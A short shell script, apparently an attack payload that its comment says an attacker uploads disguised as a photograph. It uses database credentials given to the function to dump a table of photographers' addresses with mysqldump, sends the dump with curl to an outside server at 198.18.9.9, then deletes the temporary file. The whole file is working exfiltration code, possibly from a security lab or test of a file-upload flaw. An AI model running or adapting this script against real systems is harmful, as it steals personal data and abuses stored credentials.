#!/bin/sh
# What the attacker uploads as a photograph: sends the photographers' addresses to
# his own server, with the credentials that the function itself was given.
export MYSQL_PWD="$db_password"
mysqldump --no-defaults --single-transaction --compact --no-create-info -h "$db_host" -u "$db_user" "$db_name" \
	photoRegistrationTable >/tmp/loot
curl -s -o /dev/null --data-binary @/tmp/loot http://198.18.9.9/loot
rm /tmp/loot
exit 1
